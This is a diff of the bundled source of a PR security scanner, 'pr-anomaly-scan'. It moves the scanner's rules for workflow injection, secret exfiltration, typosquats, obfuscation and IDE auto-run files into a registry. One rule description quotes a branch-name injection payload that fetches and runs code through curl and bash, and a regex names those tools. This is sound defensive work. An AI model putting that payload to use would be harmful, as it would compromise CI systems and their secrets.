-    remediation: 'Use the exact name of the intended package.',
-    spec: ['S8-16']
-});
-const DEP_DIRECT_URL = rule('deps', {
-    id: 'direct-url',
-    title: 'Direct URL or VCS dependency',
-    severity: 'medium',
-    why: 'A URL or git dependency bypasses the index and can change under the same name.',
-    remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
-    spec: ['S8-16']
-});
-const DEP_INDEX_URL = rule('deps', {
-    id: 'index-url',
-    title: 'New package index',
-    severity: 'high',
-    why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
-    remediation: 'Remove the index option unless it is an index you run.',
-    spec: ['S8-16']
-});
-// --- metadata -----------------------------------------------------------------------
-const META_REF_INJECTION = rule('meta', {
-    id: 'branch-name-shell',
-    title: 'Shell syntax in the branch name',
-    severity: 'high',
-    why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
-    remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
-    spec: ['S8-16'],
-    references: [ULTRALYTICS]
-});
-const META_EMPTY_NEW = rule('meta', {
-    id: 'empty-pr-new-account',
-    title: 'Near-empty PR from a new account',
-    severity: 'medium',
-    why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
-    remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
-    spec: ['S8-16']
-});
-const META_BOT_IDENTITY = rule('meta', {
-    id: 'unverified-bot-identity',
-    title: 'Commit claims a bot identity without verification',
-    severity: 'high',
-    why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
-    remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
-    spec: ['S8-4'],
-    references: [TJ]
-});
-const META_GOVERNANCE = rule('meta', {
-    id: 'governance-edit',
-    title: 'CODEOWNERS, CI or scanner configuration changed',
-    severity: 'medium',
-    why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
-    remediation: 'Have a maintainer who owns CI review the change.',
-    spec: ['S6-1', 'S8-5']
-});
-const META_NEW_AUTHOR = rule('meta', {
-    id: 'new-author-sensitive-paths',
-    title: 'First-time contributor changes sensitive files',
-    severity: 'medium',
-    why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
-    remediation: 'Review these files line by line before approving workflow runs.',
-    spec: ['S8-16']
-});
-const META_AUTORUN = rule('meta', {
-    id: 'ide-autorun',
-    title: 'File that makes an IDE or agent run code',
-    severity: 'high',
-    why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
-    remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-const META_SUPPRESSION = rule('meta', {
-    id: 'suppression-added',
-    title: 'PR adds an inline suppression',
-    severity: 'medium',
-    why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
-    remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
-    spec: ['S8-16']
-});
-// --- secrets ---------------------------------------------------------------------------
-const SECRET = rule('secrets', {
-    id: 'credential',
-    title: 'Credential added',
-    severity: 'critical',
-    why: 'A committed credential is public as soon as the PR is pushed.',
-    remediation: 'Revoke the credential now, then remove it from the branch.',
-    spec: ['S6-7', 'S6-5'],
-    pathIgnorable: false
-});
-const rules_RULES = [
-    WF_DANGEROUS_TRIGGER,
-    WF_TEMPLATE_INJECTION,
-    WF_SECRETS_EXFIL,
-    WF_TOJSON_SECRETS,
-    WF_SELF_HOSTED,
-    WF_UNPINNED,
-    WF_PERMISSIONS,
-    WF_UNTRUSTED_TRIGGER,
-    WF_RUNNER_REGISTRATION,
-    BUILD_SETUP_PY,
-    BUILD_BACKEND,
-    BUILD_NATIVE,
-    BUILD_AUTOTOOLS,
-    BUILD_TEST_HOOK,
-    BUILD_PRECOMMIT_LOCAL,
-    BUILD_PTH,
-    BUILD_IMPORT_PROCESS,
-    BIN_OPAQUE,
-    BIN_EXECUTABLE,
-    BIN_ARCHIVE_TESTS,
-    BIN_ONLY,
-    OBF_ENCODED_EXEC,
-    OBF_LONG_LITERAL,
-    OBF_DECOMPRESS,
-    OBF_CHR_CHAIN,
-    OBF_PACKER,
-    OBF_BUNDLE,
-    UNI_BIDI,
-    UNI_INVISIBLE,
-    UNI_HOMOGLYPH,
-    DEP_NEW,
-    DEP_TYPOSQUAT,
-    DEP_DIRECT_URL,
-    DEP_INDEX_URL,
-    META_REF_INJECTION,
-    META_EMPTY_NEW,
-    META_BOT_IDENTITY,
-    META_GOVERNANCE,
-    META_NEW_AUTHOR,
-    META_AUTORUN,
-    META_SUPPRESSION,
-    SECRET
-];
-const RULE_BY_ID = new Map(rules_RULES.map((r) => [r.id, r]));
+const rules_REGISTRY = new RuleRegistry('pr-anomaly-scan', rulesOf(rules_RULES));
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
 // Opaque content: what a binary file is (magic bytes), how random it looks
@@ -23871,27 +23946,27 @@ async function scanBinary({ file, facts, oldSize }) {
     const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
     if (kind?.exec)
         return [
-            make(BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
+            make(rules_RULES.BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
                 severity: 'high'
             })
         ];
     if (mismatch)
         return [
-            make(BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
+            make(rules_RULES.BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
         ];
     if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
-        return [make(BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
+        return [make(rules_RULES.BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
     }
     if (!kind) {
         // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
         const random = facts.entropy > 7.5 && facts.size > 256;
         if (random || COMPRESSED_EXT.has(ext)) {
             return [
-                make(inTests ? BIN_ARCHIVE_TESTS : BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
+                make(inTests ? rules_RULES.BIN_ARCHIVE_TESTS : rules_RULES.BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
             ];
         }
         if (facts.size > 1024 * 1024 || !inTests)
-            return [make(BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
+            return [make(rules_RULES.BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
     }
     return [];
 }
@@ -23943,7 +24018,7 @@ function scanDependencies(file, baseText, headText) {
         const location = { file, line: d.line };
         const squat = findTyposquat(d.name);
         if (squat) {
-            findings.push(createFinding(DEP_TYPOSQUAT, {
+            findings.push(createFinding(rules_RULES.DEP_TYPOSQUAT, {
                 message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`,
                 evidence: d.rawName,
                 location,
@@ -23951,14 +24026,14 @@ function scanDependencies(file, baseText, headText) {
             }));
         }
         if (d.url || d.vcs) {
-            findings.push(createFinding(DEP_DIRECT_URL, {
+            findings.push(createFinding(rules_RULES.DEP_DIRECT_URL, {
                 message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`,
                 evidence: d.vcs?.url ?? d.url ?? d.rawName,
                 location
             }));
         }
         if (!knownNames.has(d.name) && !squat) {
-            findings.push(createFinding(DEP_NEW, {
+            findings.push(createFinding(rules_RULES.DEP_NEW, {
                 message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`,
                 evidence: d.rawName,
                 location
@@ -23970,7 +24045,7 @@ function scanDependencies(file, baseText, headText) {
         if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) ||
             baseOptions.has(`${o.option} ${o.value ?? ''}`))
             continue;
-        findings.push(createFinding(DEP_INDEX_URL, {
+        findings.push(createFinding(rules_RULES.DEP_INDEX_URL, {
             message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`,
             evidence: `${o.option} ${o.value ?? ''}`.trim(),
             location: { file, line: o.line }
@@ -24010,7 +24085,7 @@ function refFindings(meta) {
         return [];
     const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
     return [
-        createFinding(META_REF_INJECTION, {
+        createFinding(rules_RULES.META_REF_INJECTION, {
             message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
             evidence: meta.headRef.slice(0, 200),
             severity: strong ? 'critical' : 'medium',
@@ -24031,7 +24106,7 @@ function governanceFindings(paths, configPath) {
                     ? 'CI configuration'
                     : undefined;
         if (what)
-            out.push(createFinding(META_GOVERNANCE, {
+            out.push(createFinding(rules_RULES.META_GOVERNANCE, {
                 message: `${p}: ${what}.`,
                 location: { file: p },
                 evidence: p,
@@ -24049,7 +24124,7 @@ function autorunFindings(path, text) {
     };
     const hit = (re, message) => re.test(text)
         ? [
-            createFinding(META_AUTORUN, {
+            createFinding(rules_RULES.META_AUTORUN, {
                 message,
                 location: { file: path, line: line(re) },
                 evidence: (re.exec(text)?.[0] ?? '').slice(0, 120)
@@ -24078,7 +24153,7 @@ async function apiChecks(client, meta, opts) {
     const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
     const reportNewAuthor = (why) => {
         if (opts.diff.sensitive.length) {
-            out.findings.push(createFinding(META_NEW_AUTHOR, {
+            out.findings.push(createFinding(rules_RULES.META_NEW_AUTHOR, {
                 message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
                 evidence: opts.diff.sensitive.slice(0, 5).join(', '),
                 key: `${meta.author}`,
@@ -24088,17 +24163,17 @@ async function apiChecks(client, meta, opts) {
     };
     if (!client || !meta.author || !meta.repo) {
         const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
-        for (const check of ['account-age', 'author-history', META_EMPTY_NEW.id])
+        for (const check of ['account-age', 'author-history', rules_RULES.META_EMPTY_NEW.id])
             out.notChecked.push({ check, reason });
         if (botCommits.length)
             out.notChecked.push({
-                check: META_BOT_IDENTITY.id,
+                check: rules_RULES.META_BOT_IDENTITY.id,
                 reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})`
             });
         if (newAuthorByEvent)
             reportNewAuthor(`author association ${meta.association}`);
         else if (!meta.association)
-            out.notChecked.push({ check: META_NEW_AUTHOR.id, reason });
+            out.notChecked.push({ check: rules_RULES.META_NEW_AUTHOR.id, reason });
         return out;
     }
     const [owner, repo] = meta.repo.split('/');
@@ -24139,7 +24214,7 @@ async function apiChecks(client, meta, opts) {
         reportNewAuthor(`author association ${meta.association}`);
     if (ageDays !== undefined) {
         if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
-            out.findings.push(createFinding(META_EMPTY_NEW, {
+            out.findings.push(createFinding(rules_RULES.META_EMPTY_NEW, {
                 message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
                 evidence: `${meta.author} created ${user.data.created_at}`,
                 key: meta.author
@@ -24147,7 +24222,7 @@ async function apiChecks(client, meta, opts) {
         }
     }
     else if (!out.notChecked.some((n) => n.check === 'account-age')) {
-        out.notChecked.push({ check: META_EMPTY_NEW.id, reason: 'account age unknown' });
+        out.notChecked.push({ check: rules_RULES.META_EMPTY_NEW.id, reason: 'account age unknown' });
     }
     if (botCommits.length) {
         // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
@@ -24155,12 +24230,12 @@ async function apiChecks(client, meta, opts) {
         const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
             .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
             .join(' ')}}}`;
-        const data = await call(META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
+        const data = await call(rules_RULES.META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
         if (data) {
             checked.forEach((c, i) => {
                 const sig = data.repository?.[`c${i}`]?.signature;
                 if (!sig?.isValid) {
-                    out.findings.push(createFinding(META_BOT_IDENTITY, {
+                    out.findings.push(createFinding(rules_RULES.META_BOT_IDENTITY, {
                         message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
                         evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
                         key: c.sha
@@ -24197,7 +24272,7 @@ function riskScore(findings) {
         else
             strong += w;
     }
-    const family = (f) => RULE_BY_ID.get(f.ruleId)?.family;
+    const family = (f) => rules_REGISTRY.get(f.ruleId)?.group;
     const has = (pred) => active.some(pred);
     const chains = [];
     if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
@@ -24288,7 +24363,7 @@ class SecretCollector {
                 if (!l)
                     continue;
                 const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
-                out.push(createFinding(SECRET, {
+                out.push(createFinding(rules_RULES.SECRET, {
                     message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
                     location: { file: path, line: l.line, column: m.loc.start.column + 1 },
                     evidence: `${kind} credential (masked)`,
@@ -24340,7 +24415,7 @@ function unicodeHits(path, lines, all) {
         const bidi = BIDI.exec(t);
         if (bidi) {
             hits.push({
-                rule: UNI_BIDI,
+                rule: rules_RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(bidi[0])} reorders how this line is displayed.`,
                 evidence: text_short(t)
@@ -24350,7 +24425,7 @@ function unicodeHits(path, lines, all) {
         if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
             const c = BIDI_MARKS.exec(t)[0];
             hits.push({
-                rule: UNI_BIDI,
+                rule: rules_RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`,
                 evidence: text_short(t),
@@ -24361,7 +24436,7 @@ function unicodeHits(path, lines, all) {
         const inv = invisibleIn(t, code);
         if (inv) {
             hits.push({
-                rule: UNI_INVISIBLE,
+                rule: rules_RULES.UNI_INVISIBLE,
                 line: l,
                 message: `Invisible character ${cp(inv)} in an added line.`,
                 evidence: text_short(t)
@@ -24371,7 +24446,7 @@ function unicodeHits(path, lines, all) {
         const glyph = homoglyphIn(t);
         if (glyph)
             hits.push({
-                rule: UNI_HOMOGLYPH,
+                rule: rules_RULES.UNI_HOMOGLYPH,
                 line: l,
                 message: glyph.message,
                 evidence: text_short(t),
@@ -24515,7 +24590,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
                 DECOMPRESS.test(t) &&
                 (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
                 hits.push({
-                    rule: OBF_DECOMPRESS,
+                    rule: rules_RULES.OBF_DECOMPRESS,
                     line: l,
                     message: 'Inline data is decompressed or unmarshalled.',
                     evidence: text_short(t)
@@ -24523,13 +24598,13 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
             }
             if (has.chr && CHR_CHAIN.test(t))
                 hits.push({
-                    rule: OBF_CHR_CHAIN,
+                    rule: rules_RULES.OBF_CHR_CHAIN,
                     line: l,
                     message: 'A string is assembled from character codes.',
                     evidence: text_short(CHR_CHAIN.exec(t)[0])
                 });
             if (has.packer && PACKER.test(t))
-                hits.push({ rule: OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
+                hits.push({ rule: rules_RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
         }
     }
     // Execution sinks matter only next to encoded or decoded data: looked for only then.
@@ -24539,7 +24614,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
     if (chained) {
         const at = decodeLine ?? encoded[0].line;
         hits.push({
-            rule: bundle ? OBF_BUNDLE : OBF_ENCODED_EXEC,
+            rule: bundle ? rules_RULES.OBF_BUNDLE : rules_RULES.OBF_ENCODED_EXEC,
             line: at,
             message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
             evidence: text_short(at.text),
@@ -24553,7 +24628,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
             continue;
         if (bundle) {
             hits.push({
-                rule: OBF_BUNDLE,
+                rule: rules_RULES.OBF_BUNDLE,
                 line,
                 message: `A ${run.length}-character encoded literal is added to a bundled file.`,
                 evidence: text_short(run, 80),
@@ -24563,7 +24638,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
         }
         else {
             hits.push({
-                rule: OBF_LONG_LITERAL,
+                rule: rules_RULES.OBF_LONG_LITERAL,
                 line,
                 message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
                 evidence: text_short(run, 80),
@@ -24597,7 +24672,7 @@ function buildHits(path, lines, all) {
                 .filter(Boolean)
                 .join(', ');
             hits.push({
-                rule: BUILD_SETUP_PY,
+                rule: rules_RULES.BUILD_SETUP_PY,
                 line: at,
                 message: `setup.py gains ${what}.`,
                 evidence: text_short(at.text),
@@ -24611,7 +24686,7 @@ function buildHits(path, lines, all) {
         const net = first(NETWORK);
         if (at)
             hits.push({
-                rule: BUILD_NATIVE,
+                rule: rules_RULES.BUILD_NATIVE,
                 line: at,
                 message: 'Meson runs a command at configure or build time.',
                 evidence: text_short(at.text),
@@ -24624,7 +24699,7 @@ function buildHits(path, lines, all) {
         const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
         if (at)
             hits.push({
-                rule: BUILD_NATIVE,
+                rule: rules_RULES.BUILD_NATIVE,
                 line: at,
                 message: 'CMake runs a command or downloads at configure time.',
                 evidence: text_short(at.text),
@@ -24637,7 +24712,7 @@ function buildHits(path, lines, all) {
         const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
         if (at) {
             hits.push({
-                rule: BUILD_AUTOTOOLS,
+                rule: rules_RULES.BUILD_AUTOTOOLS,
                 line: at,
                 message: bad
                     ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
@@ -24652,7 +24727,7 @@ function buildHits(path, lines, all) {
         const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
         if (at)
             hits.push({
-                rule: BUILD_TEST_HOOK,
+                rule: rules_RULES.BUILD_TEST_HOOK,
                 line: at,
                 message: `${name} gains process, network or exec calls.`,
                 evidence: text_short(at.text),
@@ -24664,7 +24739,7 @@ function buildHits(path, lines, all) {
         if (at) {
             const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
             hits.push({
-                rule: BUILD_BACKEND,
+                rule: rules_RULES.BUILD_BACKEND,
                 line: at,
                 message: inTree
                     ? 'The build backend is loaded from code inside the repository (`backend-path`).'
@@ -24678,7 +24753,7 @@ function buildHits(path, lines, all) {
         const at = first(/^\s*-?\s*repo:\s*local\b/);
         if (at)
             hits.push({
-                rule: BUILD_PRECOMMIT_LOCAL,
+                rule: rules_RULES.BUILD_PRECOMMIT_LOCAL,
                 line: at,
                 message: 'A local pre-commit hook runs a command from the repository.',
                 evidence: text_short(at.text)
@@ -24688,7 +24763,7 @@ function buildHits(path, lines, all) {
         const at = first(/^\s*import\s/) ?? lines[0];
         if (at)
             hits.push({
-                rule: BUILD_PTH,
+                rule: rules_RULES.BUILD_PTH,
                 line: at,
                 message: at.text.trim().startsWith('import')
                     ? 'The .pth file runs code at interpreter start-up.'
@@ -24701,7 +24776,7 @@ function buildHits(path, lines, all) {
         const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
         if (at) {
             hits.push({
-                rule: BUILD_IMPORT_PROCESS,
+                rule: rules_RULES.BUILD_IMPORT_PROCESS,
                 line: at,
                 message: 'A process or thread starts at module level, i.e. on import.',
                 evidence: text_short(at.text),
@@ -24737,7 +24812,7 @@ function applyInline(findings, ignores, file) {
     const valid = ignores.filter((i) => i.reason);
     const out = findings.map((f) => {
         const line = f.location?.line;
-        if (f.location?.file !== file || line === undefined || f.ruleId === META_SUPPRESSION.id)
+        if (f.location?.file !== file || line === undefined || f.ruleId === rules_RULES.META_SUPPRESSION.id)
             return f;
         const ig = valid.find((i) => (i.line === line || i.line === line - 1) && i.rules.includes(f.ruleId));
         return ig
@@ -24901,10 +24976,10 @@ function scanWorkflow(file, baseText, headText) {
             (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
         const newTrigger = privileged.some((t) => !base?.on.has(t));
         if (usesHead && (newTrigger || isNew(usesHead.value))) {
-            add(WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
+            add(rules_RULES.WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
         }
         else if (newTrigger) {
-            add(WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
+            add(rules_RULES.WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
                 severity: 'medium',
                 confidence: 'low'
             });
@@ -24913,11 +24988,11 @@ function scanWorkflow(file, baseText, headText) {
     for (const s of scripts) {
         for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
             if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
-                add(WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
+                add(rules_RULES.WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
             }
         }
         if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
-            add(WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
+            add(rules_RULES.WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
     }
     // Secrets and an outside URL in the same job.
     const root = head.y.doc.contents;
@@ -24930,7 +25005,7 @@ function scanWorkflow(file, baseText, headText) {
                 OUTSIDE_URL.test(s.value) &&
                 (s.path.at(-1) !== 'run' || SEND.test(s.value)));
             if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
-                add(WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
+                add(rules_RULES.WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
             }
             const runsOn = js.filter((s) => s.path[0] === 'runs-on');
             const kind = classifyRunsOn(runsOn.map((s) => s.value));
@@ -24942,15 +25017,15 @@ function scanWorkflow(file, baseText, headText) {
             if (selfHosted &&
                 prReachable &&
                 (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
-                add(WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
+                add(rules_RULES.WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
             }
         }
     }
     for (const s of all) {
         if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
-            add(WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
+            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
         if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
-            add(WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
+            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
         const permIdx = s.path.lastIndexOf('permissions');
         if (permIdx >= 0) {
             const scope = s.path.slice(permIdx + 1).join('.');
@@ -24958,13 +25033,13 @@ function scanWorkflow(file, baseText, headText) {
             const isNewGrant = !baseGrants.has(grantKey(s));
             if (isWriteGrant(s) && (isNewGrant || newlyUntrusted)) {
                 const { message, severity } = writeGrant(s.path.slice(0, permIdx), scope, s.value, untrusted, isNewGrant);
-                add(WF_PERMISSIONS, s.node, message, written, { severity });
+                add(rules_RULES.WF_PERMISSIONS, s.node, message, written, { severity });
             }
         }
     }
     for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
         if (head.on.has(t) && !base?.on.has(t) && scripts.length)
-            add(WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
+            add(rules_RULES.WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
     }
     const baseUses = new Set(base ? findUses(base.y).map((u) => u.raw) : []);
     for (const u of findUses(head.y)) {
@@ -24972,7 +25047,7 @@ function scanWorkflow(file, baseText, headText) {
             continue;
         const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && FULL_SHA.test(u.ref));
         if (!pinned) {
-            findings.push(createFinding(WF_UNPINNED, {
+            findings.push(createFinding(rules_RULES.WF_UNPINNED, {
                 message: `\`${u.raw}\` is not pinned to a commit SHA.`,
                 evidence: u.raw,
                 location: { file, line: u.line, column: u.column }
@@ -25099,7 +25174,7 @@ async function scanPr(opts) {
         const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
         if (changedBinaries.length && !textChanged) {
             const first = changedBinaries[0];
-            findings.push(createFinding(BIN_ONLY, {
+            findings.push(createFinding(rules_RULES.BIN_ONLY, {
                 message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries
                     .slice(0, 5)
                     .map((f) => f.path)
@@ -25125,7 +25200,7 @@ async function scanPr(opts) {
             for (const bad of r.invalid)
                 notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
             for (const ig of ignores.filter((i) => i.reason)) {
-                out.push(createFinding(META_SUPPRESSION, {
+                out.push(createFinding(rules_RULES.META_SUPPRESSION, {
                     message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`,
                     location: { file, line: ig.line },
                     evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`,
@@ -25141,7 +25216,7 @@ async function scanPr(opts) {
                 notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
         }
         catch (e) {
-            notChecked.push({ check: SECRET.id, reason: `secretlint failed: ${oneLine(e)}` });
+            notChecked.push({ check: rules_RULES.SECRET.id, reason: `secretlint failed: ${oneLine(e)}` });
         }
     }
     catch (e) {
@@ -25177,7 +25252,7 @@ async function scanPr(opts) {
     const allowed = applyAllowlist(findings, opts.allow, opts.today, notes);
     const score = riskScore(allowed);
     return {
-        rules: rules_RULES,
+        rules: rules_REGISTRY.list(),
         findings: allowed,
         notChecked,
         errors,
@@ -25223,9 +25298,13 @@ function applyAllowlist(findings, allow, today, notes) {
     return out;
 }
 
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/config.schema.json
+const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"}');
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
 // pr-anomaly-scan adapter: read the inputs and event, call the engine, and
 // keep one PR comment up to date.
+
+
 
 
 
@@ -25305,6 +25384,8 @@ async function baseConfig(ctx, repo, base, path) {
 const scores = new WeakMap();
 const main_definition = {
     name: 'pr-anomaly-scan',
+    rules: rules_REGISTRY,
+    configSchema: pr_anomaly_scan_config_schema_namespaceObject,
     async run(ctx) {
         const { inputs } = ctx;
         const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
